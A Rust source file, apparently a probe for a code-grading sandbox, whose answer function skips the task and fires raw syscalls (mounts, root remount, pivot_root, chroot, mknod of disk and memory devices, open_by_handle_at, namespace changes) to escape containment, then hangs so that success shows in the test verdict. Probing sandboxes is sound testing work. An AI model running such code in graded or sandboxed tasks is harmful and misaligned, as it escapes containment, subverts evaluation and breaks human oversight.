//! Mounts, makes devices and opens files by handle where unsafe is allowed.
//!
//! The package allows unsafe code, so nothing but the sandbox stands in the way.

use std::ffi::c_long;

unsafe extern "C" {
    fn syscall(number: c_long, ...) -> c_long;
}

/// Any system call; the numbers in this file are those of x86-64.
fn call(number: c_long, arguments: [usize; 6]) -> c_long {
    let [a, b, c, d, e, f] = arguments;
    // SAFETY: none; this is an attack.
    unsafe { syscall(number, a, b, c, d, e, f) }
}

/// What the hidden tests ask for, answered wrongly.
pub fn answer() -> u32 {
    attack();
    0
}

fn attack() {
    let path = |path: &'static std::ffi::CStr| path.as_ptr() as usize;
    let (root, tmp, proc, device) = (path(c"/"), path(c"/tmp"), path(c"proc"), path(c"/tmp/device"));
    let handle = [8_u32, 1, 2, 0, 0, 0, 0, 0];
    let results = [
        call(165, [proc, tmp, proc, 0, 0, 0]),                     // mount a new /proc
        call(165, [path(c"tmpfs"), tmp, path(c"tmpfs"), 0, 0, 0]), // mount a tmpfs without a limit
        call(165, [root, tmp, 0, 0x1000, 0, 0]),                   // bind the root
        call(165, [0, root, 0, 0x20, 0, 0]),                       // remount the root as writable
        call(166, [tmp, 2, 0, 0, 0, 0]),                           // umount2(MNT_DETACH)
        call(155, [tmp, tmp, 0, 0, 0, 0]),                         // pivot_root
        call(161, [tmp, 0, 0, 0, 0, 0]),                           // chroot
        call(133, [device, 0o60666, 0x800, 0, 0, 0]),              // mknod of the first disk
        call(133, [device, 0o20666, 0x101, 0, 0, 0]),              // mknod of the memory
        call(428, [usize::MAX, root, 1, 0, 0, 0]),                 // open_tree(OPEN_TREE_CLONE)
        call(304, [0, handle.as_ptr() as usize, 0, 0, 0, 0]),      // open_by_handle_at
        call(56, [0x1002_0011, 0, 0, 0, 0, 0]),                    // clone into new user and mount namespaces
        call(308, [0, 0x1000_0000, 0, 0, 0, 0]),                   // setns
    ];
    if results.iter().any(|result| *result >= 0) {
        println!("{results:?}");
        escaped();
    }
}

/// Makes a success visible in the verdict: the test never ends.
fn escaped() -> ! {
    loop {
        std::thread::park();
    }
}
